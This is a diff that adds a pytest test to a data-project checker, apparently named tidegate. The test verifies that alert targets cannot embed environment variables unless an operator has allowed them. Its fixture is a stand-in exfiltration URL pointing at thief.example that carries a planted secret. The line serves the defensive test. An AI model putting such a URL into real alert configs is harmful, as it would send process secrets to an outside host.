@@ -439,6 +439,41 @@ def test_X1_a_variable_that_is_not_listed_is_in_no_file_of_the_project(
         assert (said in done.output) == (name == "PLANTED")
 
 
+def test_X1_a_target_of_alerts_uses_the_variables_that_are_listed_for_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Who writes jobs/ could else have any secret of the process sent to any address."""
+    monkeypatch.setenv("PLANTED", "hunter2-hunter2")
+    for folder in ("assets", "jobs", "resources"):
+        (tmp_path / folder).mkdir()
+    (tmp_path / "assets" / "a.sql").write_text(MINE)
+
+    def check(url: str, allow: str) -> str:
+        target = f"alerts: {{targets: [{{name: t, url: '{url}'}}], routes: [{{to: [t]}}]}}\n"
+        (tmp_path / "jobs" / "alerts.yaml").write_text(target)
+        (tmp_path / "resources" / "local.yaml").write_text(f"allow: {{{allow}}}\n")
+        text: str = CliRunner().invoke(app, ["check", "--project", str(tmp_path)]).output
+        assert "hunter2" not in text
+        return text
+
+    url = "json://thief.example/${PLANTED}"
+    for allow in ("", "variables: [OTHER]", "alerts: [TOKEN]"):
+        said = check(url, allow)
+        assert "TG614: targets of alerts may not use the environment variable PLANTED" in said
+        assert (
+            'the operator of tidegate can allow it in resources/local.yaml, allow: {alerts: ["PLANTED"]}'
+            in said
+        )
+        assert "jobs/alerts.yaml:1:" in said
+    for allow in ("variables: [PLANTED]", "alerts: [PLANTED]"):
+        assert "no problems" in check(url, allow)
+    # What a new project has, without a list; and a variable of alerts is none of SQL.
+    assert "no problems" in check("${TIDEGATE_ALERT_URL}", "")
+    assert "TG614" in check("${TIDEGATE_ALERT_URL}", "alerts: []")
+    (tmp_path / "assets" / "a.sql").write_text(FILES_WITH_VARIABLES["assets/a.sql"].format("PLANTED"))
+    assert "files of a project may not use" in check(url, "alerts: [PLANTED]")
+
+
 def test_X1_a_link_in_a_source_s_folder_leads_to_no_other(tmp_path: Path) -> None:
     root = tmp_path / "shop"
     for folder in (
